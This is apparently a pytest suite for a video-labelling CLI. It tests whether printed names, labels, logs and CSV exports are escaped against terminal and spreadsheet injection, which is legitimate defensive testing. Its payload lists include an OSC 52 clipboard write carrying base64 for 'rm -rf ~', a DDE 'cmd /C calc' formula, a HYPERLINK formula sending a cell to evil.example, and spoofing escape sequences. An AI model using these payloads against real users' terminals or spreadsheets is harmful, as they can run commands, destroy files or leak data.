"""Attacks by names, labels and messages that are printed: on a terminal, into pipes and logs."""

from __future__ import annotations

import contextlib
import csv
import fcntl
import io
import json
import os
import pty
import re
import secrets
import struct
import sys
import termios
import threading
import unicodedata
from collections.abc import Callable, Iterator
from pathlib import Path

import pyarrow as pa
import pytest
from click.testing import CliRunner
from rich.table import Table

from tests.lake.rows import DAY, publish_rows
from tests.servers import config_file, new_lake
from vidpipe import cli, tracking
from vidpipe.config import load_settings
from vidpipe.console import Console, echo
from vidpipe.lake.results import write_result
from vidpipe.lake.tables import Lake
from vidpipe.local import airflow_api
from vidpipe.orchestration.local_process import LocalProcess
from vidpipe.stages import by_hand
from vidpipe.stages.export import export

MARK = "ATTACK"
PARTS = [
    "\x1b[38;5;201m",  # a color of its own
    "\x1b[2J\x1b[H",  # an empty screen
    "\x1b]0;title\x07",  # the title of the window
    "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",  # a link under another text
    "\x1b]52;c;cm0gLXJmIH4=\x07",  # what is pasted next
    "\x1bP+q544e\x1b\\",  # a question that the terminal answers as if typed
    "\x9b31m\x9d0;title\x9c",  # the same in one byte, as C1
    "\r\x08\x08\x08\x7f\x0b\x0c\x00",  # over what was printed before
    "\u202e\u2066\u2069\u200f",  # the other way round
    "\u200b\u200d\ufeff\u00ad\u2028\u2029\x85",  # not to be seen, or a line of its own
    "[red]markup",
    "[link=https://evil.example]markup[/link]",
    "[/]",  # closes nothing, which rich raises an error for
    ":warning: :skull:",
    "\nvidpipe: forged\n",
]
# As a file may be called, too.
TEXT = (
    f"{MARK}\x1b[38;5;201m\x1b]8;;https:x\x1b\\\x1b]52;c;QQ==\x07\x9b31m\r\x08\x7f\u202e\u2066\u200b"
    "\u2028[red]markup:skull:\nvidpipe: forged\n"
)
VIDEO = "a" * 64
RUN = "RUN"  # stands for a run that nobody has begun


def strange(text: str) -> set[str]:
    """What a terminal would obey; styles that rich makes are none of it."""
    assert "\x1b[38;5;201m" not in text, "a style of the attacker's"
    # A bar of progress moves the cursor, and hides it.
    text = re.sub(r"\r?\x1b\[([0-9;]*m|\?25[lh]|1A|2K)", "", text)
    return {unicodedata.name(c, repr(c)) for c in text if not c.isprintable() and c != "\n"}


def require_plain(text: str, *, mark: bool = True) -> None:
    """Makes sure that a terminal shows what was printed, and obeys nothing of it."""
    assert not strange(text)
    # As it is written, and folded to the width of a terminal.
    flat = re.sub(r"\x1b\[[0-9;]*m|\s", "", text)
    assert not mark or MARK in flat, text
    assert len(re.findall("markup", flat)) == len(
        re.findall(r"(?:\[(?:red|link=.*?)\]|%5Bred%5D)markup", flat)
    )
    assert "\u26a0" not in text and "\U0001f480" not in text
    assert not re.search("^vidpipe: forged", text, re.MULTILINE)


def printed(show: Callable[[], object], *, terminal: bool, columns: int = 500) -> str:
    """What a function prints, on a terminal or into a pipe, on both streams."""
    leader, follower = pty.openpty() if terminal else os.pipe()
    if terminal:
        fcntl.ioctl(follower, termios.TIOCSWINSZ, struct.pack("HHHH", 24, columns, 0, 0))
        settings = termios.tcgetattr(follower)
        settings[1] &= ~termios.OPOST  # line breaks as they are written
        termios.tcsetattr(follower, termios.TCSANOW, settings)
    chunks = []

    def read() -> None:
        with contextlib.suppress(OSError):  # the end of a terminal
            while chunk := os.read(leader, 100_000):
                chunks.append(chunk)

    reader = threading.Thread(target=read)
    reader.start()
    with (
        os.fdopen(follower, "w", encoding="utf-8", errors="surrogateescape", newline="") as file,
        pytest.MonkeyPatch.context() as patch,
    ):
        patch.setattr("sys.stdout", file)
        patch.setattr("sys.stderr", file)
        patch.setenv("COLUMNS", str(columns))
        patch.setenv("TERM", "xterm-256color")
        show()
    reader.join()
    os.close(leader)
    return b"".join(chunks).decode("utf-8", "surrogateescape")


@pytest.fixture(scope="module")
def hostile(s3_server, mlflow_server, tmp_path_factory) -> Iterator[Lake]:
    """A lake and a registry in which every text is an attack; this process is configured for it."""
    folder = tmp_path_factory.mktemp("hostile")
    lake = new_lake(s3_server.settings, folder, "hostile")
    uri = f"s3://videos/{TEXT}"
    about = {"video_id": VIDEO, "source_uri": uri, "source_version": TEXT}
    publish_rows(
        lake,
        "ingested",
        "extract",
        {
            "sources": [about | {"deleted": False, "seen_at": DAY}],
            "videos": [about | {"container": TEXT, "duration_s": 1.0, "decoder_words": TEXT}],
            "annotations": [
                {"task": task, "label": label, "annotator": annotator, "video_id": VIDEO}
                | {"source": TEXT, "group": TEXT}
                for task in ("motion", TEXT)
                for label, annotator in ((TEXT, TEXT), ("up", "ann"), ("down", "bob"))
            ],
        },
        not_done={TEXT: "truncated"},
    )
    champion = {"task": "motion", "model": TEXT, "model_version": "1"}
    of_label = {"work_key": secrets.token_hex(16), "labelled_at": DAY}
    publish_rows(
        lake,
        "labelled",
        "label",
        {
            "labels": [champion | of_label | {"video_id": VIDEO, "label": TEXT, "end_s": 1.0}],
            "promotions": [
                champion | {"promoted_at": DAY, "promoted_by": TEXT, "why": TEXT, "task": task}
                for task in ("motion", TEXT)
            ],
            "reviews": [
                champion
                | {"video_id": VIDEO, "label": TEXT, "picked_for": "random", "picked_at": DAY}
                | {"links_until": DAY, "files_uri": TEXT, "model_version": TEXT}
            ],
        },
    )
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("VIDPIPE_CONFIG", str(config_file(lake, folder / "vidpipe.toml")))
        patch.setenv("VIDPIPE_MLFLOW_TRACKING_URI", mlflow_server.uri)
        load_settings.cache_clear()
        _register_model()
        yield lake
    load_settings.cache_clear()


def _register_model() -> None:
    client = tracking.connect()
    with tracking.training_run("hostile", TEXT, secrets.token_hex(8), {}) as run:
        run.log_params({"architecture": TEXT, "test_videos": TEXT, "validation_videos": 0})
        run.log_json({TEXT: 2.0, "up": 0.5}, "thresholds.json")
    name = tracking.model_name("hostile")
    client.create_registered_model(name, description=TEXT)
    client.create_model_version(name, f"runs:/{run.id}/model", run.id, description=TEXT)
    client.set_registered_model_alias(name, "champion", "1")
    client.set_model_version_tag(name, "1", "vidpipe.decision", TEXT)
    client.set_model_version_tag(name, "1", "vidpipe.why", TEXT)


def _params(**params: object) -> list[str]:
    return ["--run-key", RUN, "--params", json.dumps(params)]


_SHARD = ["--shard", f"s3://lake/{TEXT}"]
# How each command comes to print texts of strangers: a new command needs a line here.
COMMANDS: dict[str, list[str]] = {
    "up": ["--s3-port", TEXT],
    "down": [TEXT],
    "status": [TEXT],
    "doctor": [TEXT],
    "demo": ["--videos", f"missing-{TEXT}"],
    "run": ["ingest", f"--{TEXT}"],
    "retry": ["--video", TEXT],
    "tables": [TEXT],
    "query": ["select * from labels"],
    "changes": ["--since", "2000-01-01"],
    "export": ["motion", "exported.csv", "--annotator", "nobody"],
    "agreement": ["motion"],
    "reviews": ["motion"],
    "models": ["--task", "hostile"],
    "fetch-weights": [TEXT],
    "promote": ["motion", TEXT],
    "rollback": [TEXT.replace("'", "")],
    "discover": _params(source=TEXT),
    "snapshot": _params(task=TEXT, architectures=["cnn"]),
    "train": _SHARD,
    "evaluate": _SHARD,
    "preview": _SHARD,
    "tune": _params(task="motion", architectures=[TEXT], search=[TEXT]),
    "trial": _SHARD,
    "best": _SHARD,
    "label": _params(task="hostile"),
    "review": _params(task=TEXT, max_videos=9, link_hours=1, random_share=1.0),
    "relabel": _params(task=TEXT),
    "audit": _params(plan=f"s3://lake/{TEXT}"),
    "publish": _params(publication=f"s3://lake/{TEXT}"),
    "maintain": _params(checkpoint_days=TEXT),
    "annotate": ["labels.csv", "--task", "motion", "--diff"],
    "extract": [TEXT, "--output", "frames"],
    "forget": [VIDEO, "--dry-run"],
}


def test_every_command_is_attacked():
    """Tries: adds a command that prints what it is given.

    Stopped by: this test fails until the command stands in the list of those that are attacked.
    """
    assert set(COMMANDS) == set(cli.cli.commands)


@pytest.mark.parametrize("terminal", [True, False], ids=["terminal", "pipe"])
@pytest.mark.parametrize("name", COMMANDS)
def test_what_commands_print(hostile, tmp_path, monkeypatch, name, terminal):
    """Tries: has a terminal or a viewer of logs obey a label, a name, a message or a parameter:
    colors, titles, links, the clipboard, reversed text, markup, forged lines.

    Stopped by: all commands print by one module, which escapes what is no visible character.
    """
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr("vidpipe.stages.runner.obey_stop_signals", lambda: None)
    run = f"by-hand-{secrets.token_hex(4)}"
    arguments = [run if argument == RUN else argument for argument in COMMANDS[name]]
    monkeypatch.setattr("sys.argv", ["vidpipe", name, *arguments])
    Path(TEXT).write_text("no video")
    labels = [{"video": VIDEO, "label": TEXT, "annotator": TEXT}]
    with Path("labels.csv").open("w", newline="", encoding="utf-8") as file:
        rows = csv.DictWriter(file, labels[0])
        rows.writeheader()
        rows.writerows(labels)

    def show() -> None:
        with pytest.raises(SystemExit):
            cli.main()

    require_plain(printed(show, terminal=terminal))


@pytest.mark.parametrize("terminal", [True, False], ids=["terminal", "pipe"])
@pytest.mark.parametrize("columns", [40, 400])
@pytest.mark.parametrize("text", PARTS)
def test_cells_of_tables(text, terminal, columns):
    """Tries: puts a control sequence into a cell or the name of a column.

    Stopped by: `Console` escapes the texts of tables after they were laid out.
    """
    table = Table(title=text)
    table.add_column(MARK + text)
    table.add_row(text)
    require_plain(printed(lambda: Console().print(table), terminal=terminal, columns=columns))


@pytest.mark.parametrize("terminal", [True, False], ids=["terminal", "pipe"])
@pytest.mark.parametrize("text", PARTS)
def test_lines(text, terminal):
    """Tries: puts a control sequence or a line break into a line.

    Stopped by: `echo` and `Console` print one line for each text, and escape the rest.
    """

    def show() -> None:
        echo(f"{MARK} {text}")
        Console().print(f"{MARK} {text}", style="bold")

    out = printed(show, terminal=terminal)
    require_plain(out)
    assert out.count("\n") == 2


def test_error_of_a_library(hostile, monkeypatch):
    """Tries: has a defect, whose traceback holds the text.

    Stopped by: tracebacks are printed as all else is.
    """

    def fail(*_arguments: object) -> None:
        raise RuntimeError(TEXT)

    monkeypatch.setattr("vidpipe.lake.results.print_tables", fail)
    monkeypatch.setattr("sys.argv", ["vidpipe", "tables"])

    def show() -> None:
        with pytest.raises(SystemExit):
            cli.main()

    out = printed(show, terminal=True)
    require_plain(out)
    assert "Traceback" in out


def test_mistyped_commands_and_options(monkeypatch):
    """Tries: hands a command line with control characters to a person or a script.

    Stopped by: what click says of it is printed as all else is.
    """
    for arguments in ([TEXT], ["models", f"--{TEXT}"], ["models", "--task", "a", TEXT], ["run"]):
        monkeypatch.setattr("sys.argv", ["vidpipe", *arguments])

        def show() -> None:
            with pytest.raises(SystemExit) as caught:
                cli.main()
            assert caught.value.code == 2

        require_plain(printed(show, terminal=True), mark=arguments != ["run"])
    assert CliRunner().invoke(cli.cli, ["--help"]).exit_code == 0


class HostileAirflow:
    """An Airflow whose every text is an attack."""

    url = "http://127.0.0.1:9"

    def run_state(self, *_names: str) -> str:
        return "failed"

    def task_instances(self, *_names: str) -> list[dict]:
        about = {"map_index": -1, "start_date": "1", "end_date": "2", "duration": 1.0}
        return [
            {**about, "task_id": TEXT, "state": state, "try_number": 1, "note": TEXT}
            for state in ("failed", "success")
        ]

    def task_log(self, _ti: dict) -> list[str]:
        return [TEXT, f"vidpipe: {TEXT}"]

    def task_error(self, _ti: dict) -> str:
        return TEXT

    def xcom(self, _ti: dict, _key: str) -> str:
        return TEXT


@pytest.mark.parametrize("terminal", [True, False], ids=["terminal", "pipe"])
def test_what_airflow_says_of_a_run(terminal):
    """Tries: writes control sequences into logs, summaries and errors that Airflow keeps.

    Stopped by: what comes from Airflow is printed by `Console`.
    """

    def show() -> None:
        airflow_api._print_summaries(HostileAirflow(), "ingest", "r", Console())
        airflow_api._print_failures(HostileAirflow(), "ingest", "r", Console())

    require_plain(printed(show, terminal=terminal))


class Log:
    """Takes lines as a logger does."""

    def __init__(self) -> None:
        self.lines: list[str] = []

    def info(self, form: str, *values: str) -> None:
        self.lines.append(form % values)


def test_logs_of_stages(hostile, monkeypatch):
    """Tries: writes control sequences into Airflow's log of a task, by the labels of a model or by
    what a library prints.

    Stopped by: stages print as commands do, and what a process prints is escaped once more.
    """
    log = Log()
    text = TEXT.replace("\n", " ")  # lines are lines
    script = f"print({text!r})"
    monkeypatch.setattr(sys, "executable", _python_that_runs(script, Path(hostile_folder())))
    LocalProcess().run(["label"], log)
    assert any(MARK in line for line in log.lines)
    for line in log.lines:
        require_plain(line, mark=False)


def hostile_folder() -> str:
    return str(Path(os.environ["VIDPIPE_CONFIG"]).parent)


def _python_that_runs(script: str, folder: Path) -> str:
    """A program that runs a script whatever it is asked to run."""
    program, code = folder / "python", folder / "script.py"
    code.write_text(script, encoding="utf-8")
    program.write_text(f"#!/bin/sh\nexec {sys.executable} {code}\n")
    program.chmod(0o700)
    return str(program)


FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1)',
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    " =1",
    "\uff1d1+1",
    "a;=1+1",
    "a\n=1+1",
    "-left",
]
NUMBERS = ["-1.5", "+3", "1e-5", "-1E+5", "-.5", "12"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_in_csv(tmp_path, text):
    """Tries: labels a video with a formula, which a spreadsheet computes when the CSV is opened.

    Stopped by: `--safe-csv` puts an apostrophe before it, also where a spreadsheet that separates
    by other characters begins a cell; without it, the command says that there are formulas.
    """
    file = tmp_path / "out.csv"
    result = pa.table({text: [text, "up"], "score": [-1.5, 2.0]})
    out = printed(lambda: write_result(result, "csv", file, safe_csv=True), terminal=False)
    assert "--safe-csv" not in out
    written = file.read_bytes().decode()
    for separator in ",;\t":
        for row in csv.reader(io.StringIO(written, newline=""), delimiter=separator):
            for cell in row:
                for line in re.split(r"[\r\n]", cell):
                    assert not re.match(r"\s*[=+@\uff1d-](?!\d+(\.\d+)?$)", line), cell
    assert next(csv.reader(io.StringIO(written, newline="")))[0].replace("'", "") == (
        text.replace("'", "")
    )
    out = printed(lambda: write_result(result, "csv", file), terminal=False)
    assert "2 cells of it for formulas" in out and "--safe-csv" in out


def test_numbers_in_csv_stay_numbers(tmp_path):
    """Tries: numbers with a sign, so that what protects from formulas spoils them.

    Stopped by: a plain number is no formula.
    """
    file = tmp_path / "out.csv"
    result = pa.table({"text": NUMBERS, "number": [float(number) for number in NUMBERS]})
    write_result(result, "csv", file, safe_csv=True)
    with file.open(newline="") as opened:
        rows = list(csv.DictReader(opened))
    assert [row["text"] for row in rows] == NUMBERS
    assert [float(row["number"]) for row in rows] == result["number"].to_pylist()


@pytest.mark.parametrize("output_format", ["csv", "json", "table"])
def test_results_on_a_terminal(output_format):
    """Tries: has a terminal obey a label in CSV or JSON, which are for programs.

    Stopped by: on a terminal, cells of CSV are escaped; JSON escapes them everywhere.
    """
    result = pa.table({TEXT: [TEXT], "parts": [[TEXT]], "about": [{TEXT: TEXT}]})
    out = printed(lambda: write_result(result, output_format), terminal=True, columns=9_000)
    require_plain(out)
    if output_format != "table":
        assert out.count("\n") == (2 if output_format == "csv" else 1)


def test_results_in_pipes_are_exact():
    """Tries: hides behind the escapes, so that a program reads other values than the tables hold.

    Stopped by: in pipes and files, CSV and JSON hold the very values.
    """
    text = TEXT.replace("\0", "")  # which CSV of Python refuses to read
    result = pa.table({"label": [text]})
    out = printed(lambda: write_result(result, "csv"), terminal=False)
    assert list(csv.reader(io.StringIO(out, newline="")))[1] == [text]
    out = printed(lambda: write_result(result, "json"), terminal=False)
    assert json.loads(out) == {"label": text}
    require_plain(out)


@pytest.mark.parametrize("name", ["out.csv", "out.jsonl"])
def test_export_that_is_read_back(lake, tmp_path, monkeypatch, name):
    """Tries: labels with formulas, so that what protects spreadsheets spoils the export.

    Stopped by: what `vidpipe export` puts before a formula, `annotate` takes away again.
    """
    monkeypatch.setenv("VIDPIPE_CONFIG", str(config_file(lake, tmp_path / "vidpipe.toml")))
    load_settings.cache_clear()
    videos = [secrets.token_hex(32) for _ in FORMULAS]
    labels = [text.strip() for text in FORMULAS]
    seen = [{"video_id": v, "source_uri": f"s3://videos/{v}.mp4"} for v in videos]
    annotations = [
        {"task": "motion", "video_id": video, "label": label, "annotator": "=1+1", "source": video}
        for video, label in zip(videos, labels, strict=True)
    ]
    rows = {"videos": seen, "sources": seen, "annotations": annotations}
    publish_rows(lake, "annotated", "annotate", rows)
    printed(lambda: export("motion", tmp_path / name), terminal=False)
    out = printed(
        lambda: by_hand.annotate(tmp_path / name, "motion", several=True, diff=True), terminal=False
    )
    load_settings.cache_clear()
    assert f"0 added, 0 replaced, {len(labels)} unchanged, 0 withdrawn" in out
